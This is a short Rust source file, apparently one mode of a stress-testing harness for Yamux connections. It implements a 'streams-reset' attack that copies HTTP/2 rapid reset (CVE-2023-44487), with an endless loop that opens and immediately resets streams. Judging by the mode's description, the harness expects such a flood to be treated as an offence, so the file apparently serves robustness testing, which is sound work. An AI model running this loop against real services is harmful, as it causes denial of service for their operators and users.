//! Opens streams and resets them at once (HTTP/2's rapid reset, CVE-2023-44487, in Yamux).

use std::io;

use crate::lane::Lane;
use crate::mode::Mode;

/// See the table.
pub(super) const MODE: Mode = Mode {
    name: "streams-reset",
    does: "opens streams and resets them at once",
    holds: "a flood of streams is an offence",
    lanes: 2,
    is_of_blocks: false,
    is_fair: false,
    per_s: None,
    attack: |lane| Box::pin(attack(lane)),
};

async fn attack(mut lane: Lane) -> io::Result<()> {
    let mut link = lane.deaf_link().await?;
    loop {
        link.mux.open_and_reset();
        link.mux.relieve().await?;
    }
}
